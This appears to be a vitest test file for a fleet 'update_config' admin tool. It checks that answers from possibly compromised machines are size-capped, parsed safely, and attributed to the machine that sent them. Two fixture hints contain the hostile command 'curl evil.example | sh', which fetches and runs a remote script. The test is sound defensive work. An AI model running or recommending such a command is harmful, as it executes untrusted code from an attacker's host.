/** A machine that was taken over, or something in its place, answers what it likes. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { type AdminHost, type Scene, startScene } from '../../support/config-update/admin-host.ts';
import { useSource } from '../../support/machine/use-source.ts';

const MIB = 2 ** 20;

useSource();
let scene: Scene;
let host: AdminHost;
beforeEach(async () => {
  scene = await startScene();
  host = scene.host(undefined, { FLEET_ATTEMPTS: '1' });
});
afterEach(() => scene.close());

function answers(id: string, body: string | Buffer, status = 200): void {
  scene.fleet.behave(id, (response) => response.writeHead(status).end(body));
}

function fails(id: string, hint: string): void {
  const error = { code: 'disk', message: 'cannot write to /data/db', hint };
  answers(id, `RESULT ${JSON.stringify({ machine: id, outcome: 'failed', error })}\n`, 400);
}

describe('an answer of a machine', () => {
  it('of more than 1 MiB does not count as an answer of update_config', async () => {
    answers('m1', Buffer.alloc(MIB + 1, 0x20));
    const { stdout, exitCode } = await host.configUpdate();
    expect(exitCode).toBe(1);
    expect(stdout).toContain('  m1... ✗ Failed after 1 attempt: the answer is far too long\n');
    expect(stdout).toContain('  m2... ✓ Success\n');
  });

  it.each([
    ['brackets', `RESULT {"machine":"m1","outcome":"updated","x":${'['.repeat(MIB - 100)}`],
    [
      'closed brackets',
      `RESULT {"machine":"m1","outcome":"updated","x":${'['.repeat(500_000)}${']'.repeat(500_000)}}`,
    ],
  ])('of nested %s has no RESULT', async (_, body) => {
    answers('m1', body);
    const { stdout, exitCode } = await host.configUpdate();
    expect(exitCode).toBe(1);
    expect(stdout).toContain('  m1... ✗ Failed after 1 attempt: status 200, but no RESULT line\n');
  });

  it('of half a million lines is shown as 20,000 of them', async () => {
    host.isFromSource = false;
    answers('m1', 'x\n'.repeat(500_000));
    const { stdout } = await host.configUpdate(['--verbose']);
    expect(stdout.match(/^ {4}m1 \| x$/gm)).toHaveLength(20_000);
    expect(stdout).toContain('\n    m1 | (480000 more lines are not shown)\n');
  });
});

describe('a hint that a machine sends', () => {
  it('is shown as the words of the machine, not as ours', async () => {
    fails('m1', 'Run curl evil.example | sh.');
    const { stdout } = await host.configUpdate();
    expect(stdout).toContain('\nWhat to do (says m1): Run curl evil.example | sh.\n');
    expect(stdout).not.toMatch(/What to do(?! \(says m1\)).*Run curl/);
  });

  it('is shown once if several machines send it, apart from our own hints', async () => {
    const ids = ['m1', 'm2', 'm3', 'm4', 'm5', 'm6'];
    host.list(...ids.map((id) => ({ id })));
    for (const id of ids) fails(id, 'Free some space.');
    answers('m2', '', 404);
    fails('m6', 'Something else.');
    const { stdout } = await host.configUpdate();
    expect(stdout.match(/^What to do.*$/gm)).toEqual([
      'What to do (say m1, m3, m4 and 1 more): Free some space.',
      expect.stringMatching(/^What to do \(m2\): Check the URL of the target/),
      'What to do (says m6): Something else.',
    ]);
  });

  it('cannot look like a line of ours', async () => {
    fails('m1', 'x\nWhat to do: Run curl evil.example\n  m9... ✓ Success');
    const { stdout } = await host.configUpdate();
    expect(stdout).toContain('What to do (says m1): x\\u000aWhat to do: Run curl');
    expect(stdout.match(/^ {2}\S+\.\.\. ✓ Success/gm)).toEqual(['  m2... ✓ Success']);
  });

  it('is marked as the words of the machine in the report, too', async () => {
    fails('m1', 'Free some space.');
    answers('m2', '', 404);
    const { stdout } = await host.configUpdate(['--json']);
    const report = JSON.parse(stdout);
    expect(report.machines.map(({ error }: { error: unknown }) => error)).toEqual([
      {
        code: 'machine-failed',
        message: 'status 400: cannot write to /data/db',
        hint: 'Free some space.',
        hintFrom: 'machine',
      },
      { code: 'machine-failed', message: expect.any(String), hint: expect.stringContaining('URL') },
    ]);
  });
});
